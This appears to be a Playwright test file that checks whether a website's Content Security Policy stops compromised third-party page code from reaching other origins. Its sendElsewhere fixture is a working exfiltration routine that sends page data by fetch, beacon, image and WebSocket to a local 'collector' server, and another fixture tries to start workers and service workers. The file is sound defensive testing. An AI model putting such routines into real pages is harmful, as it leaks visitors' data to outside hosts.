import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, mainHeading, test } from './support/fixtures';
import { openContactDialog, openPage } from './support/pageChecks';

/**
 * A live group's browser code runs in the shell's page, beside everything a visitor types and reads
 * there. These tests play a compromised group's code in a real page and watch what leaves it: the
 * site's Content Security Policy must keep it from sending anything to another origin and from
 * starting a worker or a service worker, while the site's own pages break none of its rules.
 */

interface Collector {
  /** Where the attacker's code sends what it took. */
  origin: string;
  /** The path of every request and WebSocket handshake that reached the collector, in order. */
  received: string[];
  close(): Promise<void>;
}

/** The attacker's collector on a free port of 127.0.0.1; it answers at `/` with a blank page of its own, which it does not count. */
async function startCollector(): Promise<Collector> {
  const received: string[] = [];
  const count = (request: IncomingMessage) => {
    if (request.url !== '/') received.push(request.url ?? '');
  };
  const server = createServer((request, response) => {
    count(request);
    response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', 'Access-Control-Allow-Origin': '*' });
    response.end('<!doctype html><title>Elsewhere</title><p>Elsewhere</p>');
  });
  server.on('upgrade', (request: IncomingMessage, socket: { destroy(): void }) => {
    count(request);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    received,
    close: () => {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(() => resolve()));
    },
  };
}

interface Violation {
  directive: string;
  blocked: string;
  page: string;
}

/** Records every `securitypolicyviolation` event of every document the page opens from now on. */
async function recordViolations(page: Page): Promise<Violation[]> {
  const violations: Violation[] = [];
  await page.exposeFunction('__reportViolation', (violation: Violation) => violations.push(violation));
  await page.addInitScript(() => {
    document.addEventListener(
      'securitypolicyviolation',
      (event) =>
        void (window as unknown as { __reportViolation: (violation: Violation) => Promise<void> }).__reportViolation({
          directive: event.effectiveDirective,
          blocked: event.blockedURI,
          page: location.pathname,
        }),
      true,
    );
  });
  return violations;
}

/**
 * The stand-in for a compromised group's code: it tries to send the page's title to the collector
 * by each way a script in a page can reach another origin, and says what the browser told it.
 */
async function sendElsewhere(page: Page, collector: string): Promise<Record<string, string>> {
  return page.evaluate(async (to) => {
    const taken = encodeURIComponent(document.title);
    const outcome: Record<string, string> = {};
    try {
      await fetch(`${to}/fetch?taken=${taken}`, { method: 'POST', mode: 'no-cors', body: taken });
      outcome.fetch = 'sent';
    } catch (error) {
      outcome.fetch = `failed: ${String(error)}`;
    }
    // Its answer says nothing: it is true even when the policy stops the beacon, so only the collector can tell.
    navigator.sendBeacon(`${to}/beacon?taken=${taken}`, taken);
    outcome.image = await new Promise<string>((resolve) => {
      const image = new Image();
      image.onload = () => resolve('loaded');
      image.onerror = () => resolve('failed');
      image.src = `${to}/image?taken=${taken}`;
    });
    outcome.websocket = await new Promise<string>((resolve) => {
      try {
        const socket = new WebSocket(`${to.replace(/^http/, 'ws')}/websocket?taken=${taken}`);
        socket.onopen = () => resolve('open');
        socket.onerror = () => resolve('failed');
      } catch (error) {
        resolve(`refused: ${String(error)}`);
      }
    });
    return outcome;
  }, collector);
}

/** The stand-in again: it tries to leave code behind in a service worker, and to run code in a worker. */
async function startBackgroundCode(
  page: Page,
): Promise<{ serviceWorker: string; registrations: number; worker: string }> {
  return page.evaluate(async () => {
    let serviceWorker: string;
    try {
      await navigator.serviceWorker.register('/some-path.js');
      serviceWorker = 'registered';
    } catch (error) {
      serviceWorker = `refused: ${String(error)}`;
    }
    const worker = await new Promise<string>((resolve) => {
      try {
        const started = new Worker(URL.createObjectURL(new Blob(["postMessage('ran')"], { type: 'text/javascript' })));
        started.onmessage = () => resolve('ran');
        started.onerror = () => resolve('failed');
      } catch (error) {
        resolve(`refused: ${String(error)}`);
      }
    });
    return { serviceWorker, registrations: (await navigator.serviceWorker.getRegistrations()).length, worker };
  });
}

let collector: Collector;

test.beforeEach(async () => {
  collector = await startCollector();
});

test.afterEach(async () => {
  await collector.close();
});

test('code in a live group page reaches no other origin, and starts no worker or service worker', async ({
  page,
  consoleProblems,
}) => {
  const violations = await recordViolations(page);
  const main = await openPage(page, '/pcb-assembly');

  const sent = await sendElsewhere(page, collector.origin);
  const background = await startBackgroundCode(page);

  // The browser refused each attempt, and said so to the page.
  const siteOrigin = new URL(page.url()).origin;
  await expect
    .poll(() => violations.map(({ directive, blocked }) => `${directive} ${blocked.split('?')[0]}`).sort())
    .toEqual([
      `connect-src ${collector.origin}/beacon`,
      `connect-src ${collector.origin}/fetch`,
      `connect-src ${collector.origin.replace('http:', 'ws:')}/websocket`,
      `img-src ${collector.origin}/image`,
      'worker-src blob',
      `worker-src ${siteOrigin}/some-path.js`,
    ]);
  expect(sent).toEqual({ fetch: 'failed: TypeError: Failed to fetch', image: 'failed', websocket: 'failed' });
  expect(background.serviceWorker).toMatch(/^refused: SecurityError: .*violates the Content Security Policy/);
  expect(background.registrations).toBe(0);
  // The worker object is made, but its code never runs: it reports an error instead.
  expect(background.worker).toBe('failed');
  // Every error the page logged is the browser's account of one of those refusals.
  expect(consoleProblems.messages.filter((message) => !/Content Security Policy/.test(message))).toEqual([]);

  // The group page itself still works: its contact button opens the dialog.
  await openContactDialog(page, main, 'Contact Us');
  // Nothing reached the collector, not even late (a beacon is sent in the background).
  await page.waitForTimeout(500);
  expect(collector.received).toEqual([]);
});

test('the same code on a page of another site, which has no such policy, does reach the collector', async ({
  page,
}) => {
  // The collector's own blank page at another origin (localhost, not 127.0.0.1) than the one the code sends to.
  await page.goto(collector.origin.replace('127.0.0.1', 'localhost'));
  await expect(page.getByText('Elsewhere')).toBeVisible();

  await sendElsewhere(page, collector.origin);
  await expect
    .poll(() => collector.received.map((url) => url.replace(/\?.*$/, '')).sort())
    .toEqual(['/beacon', '/fetch', '/image', '/websocket']);
});

test('an ordinary visit of the home page and a group page breaks no rule of the policy', async ({
  page,
  consoleProblems,
}) => {
  const violations = await recordViolations(page);
  await openPage(page, '/');
  // Scrolled through, so every picture and lazily loaded part has loaded.
  for (let y = 0; y < (await page.evaluate(() => document.body.scrollHeight)); y += 600) {
    await page.evaluate((top) => window.scrollTo(0, top), y);
    await page.waitForTimeout(40);
  }
  await page.evaluate(() => window.scrollTo(0, 0));

  // On to a group page the way a visitor goes, so the shell loads the group's code in this page.
  const nav = page.getByRole('navigation', { name: 'Main' });
  await nav.getByRole('button', { name: 'Services' }).click();
  await nav.getByRole('link', { name: 'PCB Assembly' }).click();
  await expect(page).toHaveURL(/\/pcb-assembly$/);
  await mainHeading(page);
  const { dialog } = await openContactDialog(page, page.getByRole('main'), 'Contact Us');
  await page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();

  // And the group page loaded afresh, rendered by the server and hydrated.
  await openPage(page, '/pcb-assembly');
  await openContactDialog(page, page.getByRole('main'), 'Contact Us');

  expect(violations).toEqual([]);
  expect(consoleProblems.messages).toEqual([]);
});
